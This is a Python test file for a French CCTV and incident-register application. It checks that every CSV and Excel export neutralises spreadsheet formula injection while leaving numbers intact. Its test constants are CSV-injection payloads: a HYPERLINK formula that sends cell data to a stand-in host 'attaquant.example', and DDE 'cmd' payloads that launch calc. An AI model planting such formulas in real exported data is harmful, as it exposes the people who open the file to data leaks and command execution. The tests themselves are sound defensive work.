"""No export meant for a spreadsheet carries a live formula (CSV injection).

Camera codes, action titles, zone names, viewing reasons and a user name typed at the
login form are written by people; each export path (register CSVs, audit CSV,
``gltd export --excel-fr``, import rejects, viewing log) gets them with a leading
apostrophe, while numbers — negative ones too — stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from gltd.cctv.viewlog import export_viewings_csv, log_viewing
from gltd.cli.main import app
from gltd.model import Camera, Incident, Zone
from gltd.spreadsheet import TRIGGERS, safe_cell, safe_frame, safe_row
from gltd.store.engine import make_engine
from gltd.web.app import create_app
from web_support import CARMES, CARMES_XY, login, page_token, seed, settings_for, web_settings

LINK = '=HYPERLINK("http://attaquant.example/?d="&A1;"cliquez")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+33-cmd"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


def _cells(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                float(cell.replace(",", "."))  # only a plain number may start so


def test_safe_cell_neutralises_text_and_keeps_numbers() -> None:
    for payload in (LINK, CMD, PLUS, MINUS, TAB, CR, "=1", "-", "+", "@"):
        assert safe_cell(payload) == "'" + payload
    for kept in ("CAM-01", "Les Carmes", "", "'=déjà neutralisé", "-12,5", "+3", "-1.5e3", "-7"):
        assert safe_cell(kept) == kept
    for number in (-12.5, -3, 0, 7.25, None, True):
        assert safe_cell(number) == number
    assert safe_row([LINK, -4, "x"]) == ["'" + LINK, -4, "x"]
    frame = pd.DataFrame({"name": [LINK, "ok", None], "cost": [-12.5, 3.0, -0.5], "n": [-1, 2, 3]})
    safe = safe_frame(frame)
    assert list(safe["name"])[:2] == ["'" + LINK, "ok"] and pd.isna(safe["name"].iloc[2])
    assert safe["cost"].dtype == frame["cost"].dtype and list(safe["cost"]) == [-12.5, 3.0, -0.5]
    assert list(safe["n"]) == [-1, 2, 3]
    text = safe.to_csv(sep=";", decimal=",", index=False)
    assert ";-12,5;-1" in text  # still numbers, French decimal comma
    assert list(frame["name"])[0] == LINK  # the caller's frame is not changed


def test_register_and_audit_csvs_are_neutralised(sqlite_url: str, tmp_path: Path) -> None:
    seed(sqlite_url)
    with Session(make_engine(sqlite_url)) as s, s.begin():
        s.add(
            Camera(
                code=LINK,
                lon=1.9,
                lat=47.9,
                x=CARMES_XY[0],
                y=CARMES_XY[1],
                field_angle_deg=360.0,
                range_m=50.0,
                retention_days=10,
                annual_cost_eur=-12.5,
            )
        )
    with TestClient(create_app(settings_for(sqlite_url), web=web_settings(tmp_path))) as c:
        # A user name typed at the login form lands in the audit log.
        login(c, CMD, "mauvais-mot-de-passe")
        login(c, "ville.coordinateur")
        r = c.post(
            "/actions/nouveau",
            data={"csrf_token": page_token(c), "title": MINUS, "status": "a_faire"},
            follow_redirects=False,
        )
        assert r.status_code == 303, r.text[:400]
        actions = _cells(c.get("/actions.csv").text)
        assert ["'" + MINUS] in [[cell] for row in actions for cell in row]
        _no_live_formula(actions)
        cams = _cells(c.get("/cameras.csv").text)
        header = cams[0]
        # French headers and the French Excel convention (decimal comma) since the
        # registers export their filtered view
        row = next(r for r in cams[1:] if r[header.index("Code")] == "'" + LINK)
        assert row[header.index("Coût annuel (€)")] == "-12,5"  # a number, untouched
        _no_live_formula(cams)
    with TestClient(create_app(settings_for(sqlite_url), web=web_settings(tmp_path))) as admin:
        # A failed login under an unknown name belongs to no agency: the parquet's
        # administrators, who read the whole log, see it.
        login(admin, "parquet.admin")
        rows = _cells(admin.get("/admin/audit.csv").text)
        names = [r[rows[0].index("username")] for r in rows[1:]]
        assert "'" + CMD in names and CMD not in names
        details = [r[rows[0].index("detail")] for r in rows[1:]]
        assert "'" + MINUS in details  # the action title, in the creation event
        _no_live_formula(rows)


def test_excel_fr_export_neutralises_zone_names(sqlite_url: str, tmp_path: Path) -> None:
    with Session(make_engine(sqlite_url)) as s, s.begin():
        z = Zone(name=LINK, kind="quartier", geometry_wkt=CARMES)
        s.add(z)
        s.flush()
        s.add(
            Incident(
                occurred_at=datetime(2018, 6, 1, 20, 0, tzinfo=UTC),
                category="trafic_stupefiants",
                x=-1500.25,
                y=6_700_000.0,
                lon=-0.5,
                lat=47.9,
                zone_id=z.id,
                source=PLUS,
                source_ref=TAB,
            )
        )
    out = tmp_path / "faits.csv"
    res = CliRunner().invoke(
        app, ["export", "incidents", "--out", str(out), "--excel-fr", "--db", sqlite_url]
    )
    assert res.exit_code == 0, res.output
    rows = _cells(out.read_text(encoding="utf-8-sig"))
    head, row = rows[0], rows[1]
    assert row[head.index("zone")] == "'" + LINK
    assert row[head.index("source")] == "'" + PLUS
    assert row[head.index("source_ref")] == "'" + TAB
    assert row[head.index("lon")] == "-0,5" and row[head.index("x")] == "-1500,25"
    _no_live_formula(rows)


def test_import_rejects_are_neutralised(sqlite_url: str, tmp_path: Path) -> None:
    f = tmp_path / "faits.csv"
    f.write_text(
        "id;date;category;lon;lat;adresse\n"
        f"A1;24/03/2018 14:30;trafic_stupefiants;1,901;47,902;x\n"
        f"A2;{LINK.replace(';', ',')};trafic_stupefiants;-3;47,902;{CMD}\n",
        encoding="utf-8",
    )
    res = CliRunner().invoke(
        app, ["import", "incidents", str(f), "--skip-invalid", "--db", sqlite_url]
    )
    assert res.exit_code == 0, res.output
    report = _cells((tmp_path / "faits.csv.rejets.csv").read_text(encoding="utf-8-sig"))
    values = [r[report[0].index("valeur")] for r in report[1:]]
    assert "'" + LINK.replace(";", ",") in values
    _no_live_formula(report)
    rejected = _cells((tmp_path / "faits.csv.rejets.lignes.csv").read_text(encoding="utf-8-sig"))
    head, row = rejected[0], rejected[1]
    assert row[head.index("adresse")] == "'" + CMD
    assert row[head.index("lon")] == "-3"  # a number as typed, not neutralised
    _no_live_formula(rejected)


def test_viewing_log_export_is_neutralised(sqlite_url: str, tmp_path: Path) -> None:
    seed(sqlite_url)
    engine = make_engine(sqlite_url)
    now = datetime.now(UTC)
    log_viewing(
        engine,
        agent=CMD,
        action="extraction",
        reason=LINK,
        recipient=MINUS,
        camera="CAM-01",
        clip_start=now - timedelta(hours=2),
        clip_end=now - timedelta(hours=1),
    )
    out = tmp_path / "visionnages.csv"
    assert export_viewings_csv(engine, out, by="test") == 1
    rows = _cells(out.read_text(encoding="utf-8-sig"))
    assert ["'" + CMD, "'" + LINK, "'" + MINUS] == [rows[1][2], rows[1][4], rows[1][5]]
    _no_live_formula(rows)


@pytest.mark.parametrize("payload", [LINK, CMD, TAB, CR])
def test_every_trigger_is_neutralised_in_the_audit_csv(
    sqlite_url: str, tmp_path: Path, payload: str
) -> None:
    seed(sqlite_url)
    from gltd.web import audit

    audit.record(make_engine(sqlite_url), None, "connexion_refusee", username=payload)
    rows = _cells("".join(audit.events_csv(make_engine(sqlite_url))))
    assert rows[-1][rows[0].index("username")] == "'" + payload
